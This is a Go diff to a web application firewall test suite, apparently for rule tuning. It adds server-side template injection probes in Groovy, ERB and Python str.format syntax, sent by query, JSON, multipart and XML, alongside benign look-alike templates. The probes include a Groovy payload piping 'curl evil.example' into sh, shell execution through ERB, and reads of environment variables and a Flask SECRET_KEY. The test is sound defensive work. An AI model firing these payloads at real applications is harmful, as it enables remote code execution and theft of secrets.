@@ -392,7 +392,32 @@ func attackTable() (crsCatches, crsMisses []probe) {
 		// LDAP injection
 	}
 	crsMisses = append(crsMisses, fileAttacks()...)
+	// a tenth fresh-eyes attack's (attack 14): Groovy and ERB code
+	// (210116) and str.format fields (210117), each in the query, JSON, a
+	// multipart text file and an XML element
+	for _, s := range []string{
+		`<% ['bash','-c','curl evil.example|sh'].execute() %>`, `<% 'id'.execute() %>`, `<% ['id'].execute() %>`,
+		`<% evaluate('"id".execute()') %>`, `yieldUnescaped ['id'].execute().text`,
+		`<%= %x[whoami] %>`, `<%= %x(id) %>`, `<%= system 'id' %>`, `<%= Kernel.send(:system, 'id') %>`,
+		`<%= instance_eval('%x(id)') %>`, `<%= require 'open3'; Open3.capture2('id')[0] %>`, `<%= ENV.to_h %>`,
+		`{user.__class__.__init__.__globals__[CONFIG][SECRET_KEY]}`, `{0.__init__.__globals__[os].environ}`,
+	} {
+		crsMisses = append(crsMisses, inFourPlaces(s)...)
+	}
 	return crsCatches, crsMisses
+}
+
+// inFourPlaces is s in the query, a JSON body, a multipart text file and
+// an XML element's text.
+func inFourPlaces(s string) []probe {
+	file, fileType := multipartFile("template", `filename="template.txt"`, "text/plain", s)
+	x := strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;").Replace(s)
+	return []probe{
+		{name: "query " + s, method: "GET", path: "/hello?name=" + url.QueryEscape(s)},
+		{name: "JSON " + s, method: "POST", path: "/api", contentType: "application/json", body: jsonString("name", s)},
+		{name: "multipart text file " + s, method: "POST", path: "/upload", contentType: fileType, body: file},
+		{name: "XML element " + s, method: "POST", path: "/api", contentType: "application/xml", body: `<?xml version="1.0"?><page><title>` + x + `</title></page>`},
+	}
 }
 
 // utf16be is s as UTF-16BE text; control pads every line of s with
@@ -589,6 +614,15 @@ func benignTable() []probe {
 		{name: "a Liquid template with filters on variables", method: "POST", path: "/api/templates", contentType: js,
 			body: `{"body": "Hello {{ user.name }}, total {{ order.total | times: 1.1 | round: 2 }} {% if order.paid %}paid{% endif %}"}`},
 		{name: "a Mustache section", method: "POST", path: "/api/templates", contentType: js, body: `{"body": "{{#items}}<li>{{name}}</li>{{/items}}"}`},
+		// near attack 14's: ERB, Groovy and format strings in prose and
+		// code (210116, 210117)
+		{name: "ERB snippets in a forum post", method: "POST", path: "/api/comments", contentType: js,
+			body: `{"comment": "Use <%= @user.name %> to print, <%= link_to 'Home', root_path %> for a link, <% if x %>...<% end %> for logic and <%= render 'form' %>; the system 'works'."}`},
+		{name: "a Rails database.yml with ENV in ERB", method: "POST", path: "/api/snippets", contentType: js,
+			body: `{"code": "production:\n  pool: <%= ENV.fetch \"RAILS_MAX_THREADS\", 5 %>\n  password: <%= ENV['DATABASE_PASSWORD'] %>"}`},
+		{name: "code that calls execute on objects", method: "POST", path: "/api/snippets", contentType: js,
+			body: `{"code": "cursor.execute(query); db.prepare('x').execute(); tasks['build'].execute(); commands[0].execute(); page.evaluate('document.title')"}`},
+		{name: "str.format fields and Python prose", method: "GET", path: "/search?q=" + q("{0} {name} {user.name} {0.__class__}: override __init__; __globals__ holds a module's names") + "&f=" + q(`f"{self.__class__.__name__}({self.x!r})"`)},
 		// near attack 13's Django request attributes
 		{name: "a Django template with the request's user and path", method: "POST", path: "/api/templates", contentType: js,
 			body: `{"body": "Hi {{ request.user.username }}, you are on {{ request.path }} ({{ request.method }})"}`},
